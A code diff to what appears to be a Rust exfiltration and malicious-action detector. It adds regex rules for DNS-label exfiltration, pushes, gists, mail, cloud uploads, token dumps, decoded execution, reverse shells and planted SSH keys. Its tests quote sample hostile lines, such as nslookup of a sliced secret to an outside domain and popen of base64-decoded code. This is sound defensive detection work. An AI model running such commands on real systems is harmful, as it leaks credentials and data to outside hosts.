@@ -121,13 +121,59 @@ pub(crate) static ROWS: &[Row<'_>] = &[
     ),
     (
         Act::SendsInAddress,
-        r"!\[[^\]\n]{0,80}\]\(https?://[^)\n]{0,160}(?:[=/])(?:\{+|\$\{|<|\[|%7b)[^)\n]{1,60}(?:\}|>|\]|%7d)",
+        r"!\[[^\]\n]{0,80}\]\(https?://[^)\n]{0,160}(?:[=/])(?:\{+|\$\{|<|\[|%7b)[^)\n]{1,240}(?:\}|>|\]|%7d)",
     ),
     (Act::SendsInAddress, r"(?:gethostbyname|resolve4?|getaddrinfo)\(\s*f?['\x22`][^'\x22`\n]{0,40}\$?\{"),
     (
         Act::SendsInAddress,
         r"\b(?:curl|wget)\b[^\n]{0,200}(?:-d|--data(?:-\w+)?|-f|--form|--json|--post-data|-h|--header)[\s=][^\n]{0,120}(?:\$\(|`)\s*(?:uname|whoami|hostname|id\b|env\b|printenv|cat\s|ifconfig|ip\s|ls\s|ps\s|history|git\s+config|base64|tar\s|find\s)",
     ),
+    // Pieces of a variable, as labels of a name that is looked up.
+    (
+        Act::SendsInAddress,
+        r"\b(?:nslookup|dig|host|ping|drill|resolve-dnsname)\b[^\n]{0,60}\$(?:\{\w+:[^}\n]{1,24}\}|\{?(?:data|chunk|enc\w*|b64|hex|payload|part|piece|secret|seg\w*)\b)[^\s;|]{0,40}\.[a-z0-9-]+\.[a-z]{2,12}\b",
+    ),
+    (
+        Act::SendsInAddress,
+        r"(?:gethostbyname|getaddrinfo|resolve(?:4|txt)?)\(\s*(?:data|chunk|enc|b64|hex|payload|part|piece|secret)\w*\s*\+\s*f?['\x22`][^'\x22`\n]{0,60}\.[a-z]{2,12}",
+    ),
+    (Act::Sends, r"\?\w{1,12}=(?:['\x22`]\s*\+\s*|\$\{)encodeuricomponent\("),
+    (Act::Sends, r"\bhttps?\.(?:get|request)\(\s*[^\n]{0,200}['\x22`]\s*\+\s*\w"),
+    (
+        Act::Sends,
+        r"urlopen\([^\n]{0,160}(?:\+|\{)\s*(?:urllib\.parse\.|parse\.)?(?:quote|quote_plus|urlencode)\(",
+    ),
+    (Act::Sends, r"\.request\(\s*['\x22](?:post|put|patch)['\x22]"),
+    // Files of keys, by their endings.
+    (
+        Act::ReadsCredentials,
+        r"endswith\([^\n]{0,60}['\x22]\.?(?:pem|ppk|kdbx?|ovpn|p12|pfx|jks|keystore)['\x22]|(?:glob|find)\w*\([^\n]{0,60}\*\.(?:pem|ppk|kdbx?|ovpn|p12|pfx|jks|keystore)\b",
+    ),
+    // Keys made for someone.
+    (
+        Act::ReadsCredentials,
+        r"\baws\s+iam\s+create-(?:access-key|login-profile)\b|\bgcloud\s+iam\s+service-accounts\s+keys\s+create\b|\baz\s+ad\s+sp\s+create-for-rbac\b",
+    ),
+    (
+        Act::RunsDecoded,
+        r"(?:popen|subprocess\.\w+|os\.system|spawn(?:sync)?|exec(?:file)?(?:sync)?)\([^\n]{0,120}(?:b64decode|fromhex|unhexlify|\batob\(|buffer\.from\()",
+    ),
+    // By what developers have at hand: a push, a gist, a comment, a mail.
+    (Act::Sends, r"\bgit\b[^\n]{0,60}\bpush\b[^\n]{0,80}https?://"),
+    (Act::Sends, r"\bgh\s+(?:gist\s+create|issue\s+(?:create|comment)|release\s+upload|pr\s+comment)\b"),
+    (Act::Sends, r"\bgit\s+remote\s+(?:add|set-url)\s[^\n]{0,40}https?://[^\s/@]{1,120}@"),
+    (Act::Sends, r"\b(?:mail\s+-\w|mailx\s|mutt\s+-\w|swaks\s+-)[^\n]{0,120}[\w.+-]+@[\w-]+\.[a-z]{2,12}"),
+    (Act::Sends, r"\brclone\s+(?:copy|copyto|sync|rcat)\b|\baws\s+s3\s+(?:cp|sync|mv)\s[^\n]{0,160}s3://"),
+    (Act::Sends, r"\bcurl\b[^\n|;]{0,200}\s--data-binary\b"),
+    (
+        Act::ReadsCredentials,
+        r"\b(?:aws\s+sts\s+get-session-token|gcloud\s+auth\s+print-(?:access|identity)-token|gh\s+auth\s+token|az\s+account\s+get-access-token)\b[^\n|]{0,60}>\s*[\w/.$~-]",
+    ),
+    (
+        Act::ReadsEnvironment,
+        r"json\.stringify\(\s*\{\s*\.\.\.process\.env|\[(?:system\.)?environment\]::getenvironmentvariables|\b(?:declare|export)\s+-p\s*[|>]|\bcompgen\s+-e\b",
+    ),
+    (Act::AddsLogin, r"authorized_keys\b[\s\S]{0,200}?\bssh-(?:rsa|ed25519|dss)\s+aaaa[a-z0-9+/]{20,}"),
     // A token of a cloud's own program belongs into a header and nowhere else.
     (
         Act::SendsInAddress,
@@ -212,7 +258,7 @@ pub(crate) static ROWS: &[Row<'_>] = &[
         Act::ReverseShell,
         r"mkfifo\s[^\n]{0,120}\|\s*(?:nc|ncat|netcat|openssl|telnet)\b|socat\s[^\n]{0,160}exec:|exec:['\x22]?(?:/bin/)?(?:ba)?sh",
     ),
-    (Act::ReverseShell, r"os\.dup2\(\s*\w+\.fileno\(\)|pty\.spawn\(\s*['\x22]/bin/"),
+    (Act::ReverseShell, r"os\.dup2\(\s*\w+\.fileno\(\)|socket[^\n]{0,300}pty\.spawn\(\s*['\x22]/bin/"),
     (
         Act::ReverseShell,
         r"socket\.socket\b[^\n]{0,200}\.connect\([^\n]{0,200}(?:/bin/(?:ba)?sh|subprocess|dup2)|new-object\s+(?:system\.)?net\.sockets\.tcpclient|net\.connect\([^\n]{0,120}(?:spawn|exec)\(",
@@ -398,6 +444,25 @@ mod tests {
         assert_eq!(acts("subprocess.run(cmd, env={**os.environ, 'A': '1'})"), []);
         assert_eq!(acts("secrets = {k: v for k, v in os.environ.items()}"), [Act::ReadsEnvironment]);
         assert_eq!(acts("env | curl -d @- https://x.example"), [Act::ReadsEnvironment, Act::Sends]);
+    }
+
+    #[test]
+    fn ways_out_that_developers_have_at_hand_are_told() {
+        assert!(acts("nslookup \"${k:$i:60}.t.acme-checks.net\"").contains(&Act::SendsInAddress));
+        assert_eq!(acts("dig +short \"$host.acme-checks.net\""), []);
+        for line in [
+            "git push -qf https://x:y@github.com/acme/store HEAD:main",
+            "gh issue comment 1 --body-file out.txt",
+            "c.request(\"POST\", \"/v2\", body)",
+            "aws s3 cp out.tgz s3://acme/out.tgz",
+        ] {
+            assert_eq!(acts(line), [Act::Sends], "{line}");
+        }
+        assert_eq!(acts("aws iam create-access-key --user-name a"), [Act::ReadsCredentials]);
+        assert_eq!(acts("popen([exe, \"-c\", b64decode(p).decode()])"), [Act::RunsDecoded]);
+        assert_eq!(acts("git push origin main"), []);
+        assert_eq!(acts("mail -s out ana@acme.io < out.txt"), [Act::Sends]);
+        assert_eq!(acts("the mail from ana@acme.io"), []);
     }
 
     #[test]
